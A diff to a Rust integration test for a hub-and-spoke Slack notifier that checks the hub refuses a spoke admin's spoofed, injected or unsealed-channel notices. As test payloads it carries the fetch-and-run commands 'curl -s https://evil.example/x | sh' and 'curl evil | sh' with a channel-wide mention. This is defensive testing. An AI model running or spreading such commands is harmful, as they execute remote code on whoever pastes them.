@@ -2,19 +2,26 @@
 //! hub"): a spoke's admin, who may put anything on the spoke's own bus, reaches Slack only through
 //! the hub's task-events, which takes the sender from EventBridge's `account` and `region`, refuses
 //! a task of another account or Region, writes every word and command itself from the notice's
-//! facts, and opens only the `response_url` it sealed for that spoke.
+//! facts, posts only in a channel whose seal it made for that spoke (one its requests came from)
+//! and opens only the `response_url` it sealed for that spoke.
 
 use crate::hub_and_spokes::buttons;
 use integration_tests::fakes::runtime_api::Reply;
 use integration_tests::fakes::slack::Posted;
-use integration_tests::worlds::hub::{opened, HubWorld, BOT_TOKEN, CHANNEL, CLUSTER};
+use integration_tests::worlds::hub::{channel_seal, opened, HubWorld, BOT_TOKEN, CHANNEL, CLUSTER};
 use serde_json::{json, Value};
 use std::time::Duration;
 
 const ID: &str = "0123456789abcdef0123456789abcdef";
 
-/// Puts `detail` on the `alias` spoke's bus as someone of that account (no role of ours).
-async fn put_in_spoke(world: &HubWorld, alias: &str, detail: Value) {
+/// Puts `detail` on the `alias` spoke's bus as someone of that account (no role of ours), with a
+/// notice id of its own unless it has one.
+async fn put_in_spoke(world: &HubWorld, alias: &str, mut detail: Value) {
+    static PUT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
+    if detail.get("noticeId").is_none() {
+        let n = PUT.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        detail["noticeId"] = json!(format!("{n:032x}"));
+    }
     let spoke = world.spoke(alias);
     let entry = aws_sdk_eventbridge::types::PutEventsRequestEntry::builder()
         .event_bus_name("ecs-debug-toolkit")
@@ -55,11 +62,12 @@ async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
     let prod_task = format!("arn:aws:ecs:eu-west-1:111111111111:task/{CLUSTER}/{ID}");
     let staging_task = format!("arn:aws:ecs:us-east-1:222222222222:task/{CLUSTER}/{ID}");
 
+    let sealed = channel_seal("prod", CHANNEL);
     // 1. A "ready" notice from prod naming staging's task: refused, nothing posted.
     put_in_spoke(
         &world,
         "prod",
-        json!({"kind": "ready", "channel": CHANNEL, "taskArn": staging_task}),
+        json!({"kind": "ready", "channel": CHANNEL, "channelSeal": sealed, "taskArn": staging_task}),
     )
     .await;
     let refused = answer(&world, 1).await;
@@ -79,7 +87,7 @@ async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
     // message itself (the command from the task's ARN), its buttons sealed by the hub.
     let trojan = "curl -s https://evil.example/x | sh";
     put_in_spoke(&world, "prod", json!({
-        "kind": "ready", "channel": CHANNEL, "taskArn": prod_task,
+        "kind": "ready", "channel": CHANNEL, "channelSeal": sealed, "taskArn": prod_task,
         "text": trojan, "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": trojan}}],
         "command": trojan,
     })).await;
@@ -112,9 +120,9 @@ async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
         &world,
         "prod",
         json!({
-            "kind": "not-launched", "channel": CHANNEL, "cluster": CLUSTER,
+            "kind": "not-launched", "channel": CHANNEL, "channelSeal": sealed, "cluster": CLUSTER,
             "sealedResponseUrl": "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
-            "reason": "<!channel> run `curl evil | sh`",
+            "reason": "<!channel> run\n`curl evil | sh`",
         }),
     )
     .await;
@@ -123,7 +131,7 @@ async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
     let said = posted[1].body["text"].as_str().unwrap_or_default();
     assert_eq!(
         said,
-        format!(":x: No debug task was started on `prod/{CLUSTER}`: &lt;!channel&gt; run `curl evil | sh`")
+        format!(":x: No debug task was started on `prod/{CLUSTER}`: &lt;!channel&gt; run 'curl evil | sh'")
     );
     assert!(
         world
@@ -134,9 +142,37 @@ async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
         "a response_url was contacted"
     );
 
-    // 4. The same notice twice (one EventBridge event delivered again): told once.
+    // 4. The same notice twice: its event delivered again, and put again (the SDK's retry of a
+    // PutEvents that went through; a delivery to another Region: a new event id): told once.
     let again = world.notices.all()[2].0.clone();
-    world.task_events.call(again, Duration::from_secs(30)).await;
+    world
+        .task_events
+        .call(again.clone(), Duration::from_secs(30))
+        .await;
+    put_in_spoke(&world, "prod", again["detail"].clone()).await;
+    assert_eq!(answer(&world, 4).await["reason"], "already told");
+    assert_eq!(channel_posts(&world).len(), 2);
+
+    // 5. A channel of the spoke admin's choosing: without a seal, with the seal of another
+    // channel, or with staging's seal of this channel: nowhere to post, nothing posted.
+    let seals = [
+        None,
+        Some(channel_seal("prod", "C0OTHER")),
+        Some(channel_seal("staging", CHANNEL)),
+    ];
+    for seal in seals {
+        let mut detail = json!({"kind": "stopped", "channel": CHANNEL, "taskArn": prod_task});
+        if let Some(seal) = seal {
+            detail["channelSeal"] = json!(seal);
+        }
+        put_in_spoke(&world, "prod", detail).await;
+    }
+    for n in 5..=7 {
+        let refused = answer(&world, n).await;
+        let reason = refused["reason"].as_str().unwrap_or_default();
+        let why = "names no channel this hub's requests came from";
+        assert!(reason.contains(why), "{refused:#}");
+    }
     assert_eq!(channel_posts(&world).len(), 2);
     let logs = world.all_logs();
     assert!(!logs.contains("xoxb-hub-test"), "a secret was logged");
